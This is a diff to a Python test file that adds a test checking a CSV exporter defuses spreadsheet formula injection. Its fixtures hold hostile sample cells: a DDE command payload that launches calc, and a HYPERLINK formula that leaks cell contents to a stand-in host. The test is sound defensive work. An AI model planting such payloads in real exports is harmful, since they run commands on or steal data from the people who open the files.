@@ -426,6 +426,33 @@ def test_events_csv_writer_gives_the_bytes_pandas_writes(tmp_path, monkeypatch):
     assert written.getvalue() == expected.getvalue()
 
 
+def test_events_csv_makes_text_a_spreadsheet_would_run_inert(tmp_path, monkeypatch):
+    """Article text and file names are untrusted: a cell that opens as a formula ("=HYPERLINK(",
+    "@SUM(", "+", "-", a tab) gets a leading apostrophe, so Excel or Sheets shows it as text;
+    numbers, negative ones included, and every other cell are written as they are."""
+    import io
+
+    from geo.io.exports import write_events_csv
+
+    monkeypatch.setenv("TERRITORY_HOME", str(tmp_path / "home"))
+    qasra = ("Tell Qasra", 35.1204, -40.45021, 9100001, "SY")
+    hostile = event(1, "attack", qasra, date(2016, 2, 3), source="=cmd|' /C calc'!A0.txt", killed=3,
+                    evidence='=HYPERLINK("http://example.invalid/?leak="&A1,"Shelling hit the market")',
+                    actor1="@SUM(1+1)", actor2="-2+3", casualty_breakdown="\tcivilians: 3")
+    plain = event(2, "claim", qasra, date(2016, 2, 4), metric="territory_lost_pct", value=-4.5,
+                  evidence="Militants lost ground = a fifth of the province, officials said.")
+    written = io.StringIO()
+    write_events_csv(events_frame([hostile, plain]), written)
+    rows = list(csv.DictReader(io.StringIO(written.getvalue())))
+    assert rows[0]["notes"] == "'" + hostile.evidence
+    assert rows[0]["source"] == "'" + hostile.source
+    assert (rows[0]["actor1"], rows[0]["actor2"]) == ("'@SUM(1+1)", "'-2+3")
+    assert rows[0]["casualty_breakdown"] == "'\tcivilians: 3"
+    assert rows[0]["longitude"] == "-40.45021"  # a number, not text: left as it is
+    assert rows[1]["notes"] == plain.evidence and rows[1]["value"] == "-4.5"
+    assert rows[1]["source"] == "ap.txt"
+
+
 def test_events_frame_of_field_lists_is_the_events_frame(tmp_path, monkeypatch):
     """The run frames its events from their wire field lists, never made into records: the same table."""
     from geo.io.exports import events_frame_of_rows
